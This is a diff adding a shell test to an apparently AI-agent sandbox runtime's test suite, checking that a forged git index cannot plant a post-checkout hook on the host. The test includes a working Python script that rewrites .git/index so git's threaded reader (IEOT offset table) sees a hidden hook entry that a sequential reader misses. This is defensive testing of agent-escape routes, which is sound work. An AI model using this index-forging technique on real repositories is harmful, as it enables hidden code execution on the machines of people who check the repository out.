@@ -801,6 +801,97 @@ PY
     [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] || fail "control: $(git -C "$HOST" log --stat -1; ls -la "$HOST")"
 }
 
+# An index's entry offset table (IEOT, with EOIE) tells a git that reads with threads
+# (`index.threads`) where each block of entries starts: it reads each block from there, not
+# in sequence.  The agent's index holds 20,001 clean entries in sequence, and its last block's
+# offset points into an extension git skips, where the same block starts with
+# `.git/hooks/post-checkout`: agentrt read the clean sequence, the host's threaded git the
+# hook (`git checkout -- .` writes it, the next checkout runs it).
+@test "escape: an index whose offset table (IEOT) points git's threaded reader at entries the sequence does not hold" {
+  host_repo plain
+  MARK=$T/marker-ieot
+  bundle_usr "set -e; cd /workspace; mkdir d; i=0; while [ \$i -lt 20001 ]; do : >d/f\$i; i=\$((i+1)); done
+    git add d && git commit -q -m files
+    git -c index.recordOffsetTable=true -c index.recordEndOfIndexEntries=true -c index.threads=4 update-index --force-write-index
+    printf '#!/bin/sh\ntouch $MARK\n' >/tmp/hook && B=\$(git hash-object -w /tmp/hook)
+    python3 /etc/ieot.py .git/hooks/post-checkout \$B 2>/dev/null
+    test -z \"\$(git -c index.threads=1 ls-files | grep hooks)\" && git -c index.threads=4 ls-files | grep hooks && echo PLANTED"
+  cat >"$BUNDLE/rootfs/etc/ieot.py" <<'PY'
+import hashlib, struct, sys
+# forge: the last IEOT block of .git/index read from a hidden optional extension, its first
+# entry renamed to sys.argv[1] with blob id sys.argv[2] (mode 100755)
+d = open(".git/index", "rb").read()
+body, h = d[:-20], 20
+n = struct.unpack(">I", body[8:12])[0]
+# sequential parse (v2): entry offsets
+pos, offs = 12, []
+for i in range(n):
+    offs.append(pos)
+    flags = struct.unpack(">H", body[pos + 60:pos + 62])[0]
+    nul = body.index(b"\0", pos + 62)
+    pos = pos + ((62 + (nul - pos - 62) + 8) & ~7)
+ext0 = pos
+exts, p = [], ext0
+while p < len(body):
+    sig, size = body[p:p + 4], struct.unpack(">I", body[p + 4:p + 8])[0]
+    exts.append((sig, body[p + 8:p + 8 + size])); p += 8 + size
+ext = dict(exts)
+ie = ext[b"IEOT"]
+blocks = [struct.unpack(">II", ie[4 + 8 * k:12 + 8 * k]) for k in range((len(ie) - 4) // 8)]
+print("blocks", blocks, file=sys.stderr)
+boff, bnr = blocks[-1]
+k0 = offs.index(boff)
+ents = []
+for i in range(k0, k0 + bnr):
+    a = offs[i]; b = offs[i + 1] if i + 1 < n else ext0
+    e = bytearray(body[a:b])
+    if i == k0:
+        name = sys.argv[1].encode()
+        fixed = bytearray(e[:62])
+        fixed[24:28] = struct.pack(">I", 0o100755)
+        fixed[40:60] = bytes.fromhex(sys.argv[2])
+        fixed[60:62] = struct.pack(">H", len(name))
+        ln = (62 + len(name) + 8) & ~7
+        e = bytes(fixed) + name + b"\0" * (ln - 62 - len(name))
+    ents.append(bytes(e))
+hidden = b"".join(ents)
+# new extensions: all but IEOT/EOIE as they were, then ZHID (the hidden block), IEOT, EOIE
+out = bytearray(body[:ext0])
+newext = [(s, v) for s, v in exts if s not in (b"IEOT", b"EOIE")]
+for s, v in newext:
+    out += s + struct.pack(">I", len(v)) + v
+zoff = len(out) + 8
+out += b"ZHID" + struct.pack(">I", len(hidden)) + hidden
+blocks[-1] = (zoff, bnr)
+ie2 = ie[:4] + b"".join(struct.pack(">II", o, c) for o, c in blocks)
+out += b"IEOT" + struct.pack(">I", len(ie2)) + ie2
+# EOIE: offset of the first extension, hash over each extension's sig and size
+hs = hashlib.sha1()
+p = ext0
+while p < len(out):
+    sig, size = out[p:p + 4], struct.unpack(">I", out[p + 4:p + 8])[0]
+    hs.update(out[p:p + 8]); p += 8 + size
+eoie = struct.pack(">I", ext0) + hs.digest()
+out += b"EOIE" + struct.pack(">I", len(eoie)) + eoie
+open(".git/index", "wb").write(bytes(out) + hashlib.sha1(out).digest())
+PY
+  run ar run --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $(tail -5 <<<"$output")"
+  run ar workspace "$ID" diff --format json
+  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" != none ] ||
+    fail ".git/index not protected"
+  run ar workspace "$ID" commit
+  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $(tail -5 <<<"$output")"
+  git -C "$HOST" -c index.threads=4 ls-files 2>/dev/null | grep -q hooks && fail "the host's index lists the hook"
+  (cd "$HOST" && git -c index.threads=4 checkout -- . && git checkout -q -b review) >/dev/null 2>&1 </dev/null || true
+  [ ! -e "$HOST/.git/hooks/post-checkout" ] && [ ! -e "$MARK" ] || fail "the hook reached .git/hooks or ran"
+  # control: the index included, the host's threaded git reads the hidden entry (the test can fail)
+  run ar workspace "$ID" commit --include-protected .git/index
+  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
+  git -C "$HOST" -c index.threads=4 ls-files 2>/dev/null | grep -q '^.git/hooks/post-checkout$' ||
+    fail "control: the host's threaded git does not read the hidden entry"
+}
+
 # The agent's commits are read too: a ref it changed names a commit whose
 # tree the host's `git checkout -- .`, `git restore .` or `git reset --hard`
 # writes.  A `.envrc`, cached bytecode or a symlink to a host file held back
